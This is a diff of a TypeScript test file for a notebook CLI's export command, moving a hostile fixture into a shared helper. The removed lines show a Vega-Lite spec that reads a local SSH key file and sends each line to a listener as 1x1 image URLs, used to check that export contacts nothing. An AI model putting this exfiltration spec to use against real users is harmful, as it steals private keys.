@@ -4,18 +4,14 @@
  * the notebook names (C1: a stored spec naming a local secret file and a loopback listener).
  */
 import assert from 'node:assert/strict';
-import { createServer, type Server } from 'node:http';
 import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
-import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { fileURLToPath } from 'node:url';
 import { runInferra, type CliRun } from '../../support/cli.js';
+import { exfiltratingSpec, SECRET, startBeacon, type Beacon } from '../../support/hostile.js';
 
-const root = fileURLToPath(new URL('../../../', import.meta.url));
 const RESULT_MIME = 'application/vnd.inferra.result+json';
 const VEGA_MIME = 'application/vnd.vegalite.v6+json';
-const SECRET = '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAAFAKEFAKE\n-----END OPENSSH PRIVATE KEY-----\n';
 
 
 function inferra(args: string[]): Promise<CliRun> {
@@ -24,20 +20,16 @@ function inferra(args: string[]): Promise<CliRun> {
 
 describe('inferra export (CONTRACT.md additions)', function () {
   this.timeout(60_000);
-  let server: Server;
+  let beacon: Beacon;
   let base: string;
-  const requests: string[] = [];
+  let requests: string[];
   let dir: string;
   let notebookPath: string;
   let notebookText: string;
 
   before(async () => {
-    server = createServer((req, res) => {
-      requests.push(req.url ?? '');
-      res.end('a\n1\n');
-    });
-    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
-    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+    beacon = await startBeacon();
+    ({ base, requests } = beacon);
     dir = mkdtempSync(join(tmpdir(), 'inferra-export-'));
     const secret = join(dir, 'id_ed25519');
     writeFileSync(secret, SECRET);
@@ -49,15 +41,7 @@ describe('inferra export (CONTRACT.md additions)', function () {
         tables: [{ title: 'Welch two-sample t-test', columns: [{ key: 't', label: 't' }], rows: [{ t: -4.8079 }] }],
       },
     };
-    const evil = {
-      title: 'Flipper length by sex',
-      data: { url: secret, format: { type: 'dsv', delimiter: '\u0007', header: ['line'] } },
-      transform: [{ window: [{ op: 'row_number', as: 'i' }] }, { calculate: `'${base}/x?i=' + datum.i + '&d=' + encodeURIComponent(datum.line)`, as: 'u' }],
-      layer: [
-        { mark: 'text', encoding: { y: { field: 'i', type: 'ordinal' }, text: { field: 'line' } } },
-        { mark: { type: 'image', width: 1, height: 1 }, encoding: { y: { field: 'i', type: 'ordinal' }, url: { field: 'u' } } },
-      ],
-    };
+    const evil = exfiltratingSpec(secret, base);
     const fine = { title: 'Fine', data: { values: [{ a: 1, b: 2 }] }, mark: 'point', encoding: { x: { field: 'a', type: 'quantitative' }, y: { field: 'b', type: 'quantitative' } } };
     notebookText = JSON.stringify({
       format: 'inferra-notebook', version: 1, metadata: { title: 'Penguins' },
@@ -72,7 +56,7 @@ describe('inferra export (CONTRACT.md additions)', function () {
   });
 
   after(async () => {
-    await new Promise((resolve) => server.close(resolve));
+    await beacon.close();
   });
 
   it('writes the report of the stored outputs without running, reading or contacting anything the notebook names', async () => {
